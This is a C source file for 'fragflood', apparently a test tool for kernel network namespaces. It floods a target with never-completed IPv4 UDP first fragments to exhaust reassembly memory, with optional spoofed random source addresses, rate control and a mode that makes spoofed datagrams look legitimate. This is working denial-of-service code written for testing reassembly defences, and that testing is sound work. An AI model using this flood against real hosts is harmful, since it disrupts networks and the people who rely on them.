// SPDX-License-Identifier: GPL-2.0
/*
 * fragflood: send first fragments (offset 0, MF set) of IPv4 UDP datagrams
 * that never complete, the way a reassembly-memory hog does.
 *   fragflood DST COUNT [SRC|SRC/PREFIX] [PPS] [SIZE] [complete]
 * SRC/PREFIX picks a random source in that prefix per datagram (spoofed
 * flood). PPS 0 = as fast as possible. SIZE = fragment payload (default 1400).
 * "complete": whole datagrams of 2 x SIZE bytes instead, two per source (the
 * cheapest way for a spoofer to complete datagrams and look legitimate).
 * Raw socket with IP_HDRINCL: root, and only inside a test namespace.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	struct sockaddr_in dst = { .sin_family = AF_INET };
	static unsigned char buf[1600];
	struct iphdr *ip = (void *)buf;
	unsigned long count, pps = 0, size = 1400, sent = 0;
	unsigned int prefix = 32;
	struct in_addr src = {};
	char srcbuf[64] = "", *slash;
	struct timespec t0, now;
	unsigned int prev_saddr = 0;
	int fd, one = 1;

	if (argc < 3) {
		fprintf(stderr, "usage: fragflood DST COUNT [SRC[/PREFIX]] [PPS] [SIZE]\n");
		return 2;
	}
	if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1)
		return fprintf(stderr, "fragflood: bad DST %s\n", argv[1]), 2;
	count = strtoul(argv[2], NULL, 0);
	if (argc > 3 && strcmp(argv[3], "-")) {
		snprintf(srcbuf, sizeof(srcbuf), "%s", argv[3]);
		slash = strchr(srcbuf, '/');
		if (slash) {
			*slash = '\0';
			prefix = atoi(slash + 1);
		}
		if (inet_pton(AF_INET, srcbuf, &src) != 1 || prefix > 32)
			return fprintf(stderr, "fragflood: bad SRC %s\n", argv[3]), 2;
	}
	if (argc > 4)
		pps = strtoul(argv[4], NULL, 0);
	if (argc > 5)
		size = strtoul(argv[5], NULL, 0) & ~7UL;
	bool complete = argc > 6 && !strcmp(argv[6], "complete");

	if (size < 8 || size > sizeof(buf) - 28)
		return fprintf(stderr, "fragflood: SIZE must be 8..%zu\n", sizeof(buf) - 28), 2;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("fragflood: raw socket");
		return 1;
	}
	srandom(getpid() ^ time(NULL));
	memset(buf, 0xa5, sizeof(buf));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(20 + size);
	ip->frag_off = htons(IP_MF);
	ip->daddr = dst.sin_addr.s_addr;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (; sent < count; sent++) {
		ip->id = htons(random());
		ip->saddr = src.s_addr;
		if (src.s_addr && prefix < 32) {
			unsigned int host = ntohl(src.s_addr), mask = prefix ? ~0u << (32 - prefix) : 0;

			ip->saddr = htonl((host & mask) | ((unsigned int)random() & ~mask));
		}
		if (complete && sent % 2)
			ip->saddr = prev_saddr;	/* a second datagram from the same source */
		prev_saddr = ip->saddr;
		/* The kernel fills the checksum (and, with saddr 0, the source). */
		for (int part = 0; part < (complete ? 2 : 1); part++) {
			ip->frag_off = htons(part ? size / 8 : IP_MF);
			if (sendto(fd, buf, 20 + size, 0, (void *)&dst, sizeof(dst)) < 0) {
				perror("fragflood: sendto");
				return 1;
			}
		}
		if (pps) {
			double due = (double)(sent + 1) / pps, el;

			do {
				clock_gettime(CLOCK_MONOTONIC, &now);
				el = now.tv_sec - t0.tv_sec + (now.tv_nsec - t0.tv_nsec) / 1e9;
				if (el < due)
					usleep((due - el) * 1e6 > 1000 ? 1000 : (due - el) * 1e6 + 1);
			} while (el < due);
		}
	}
	printf("sent %lu %s\n", sent, complete ? "complete datagrams" : "first fragments");
	return 0;
}
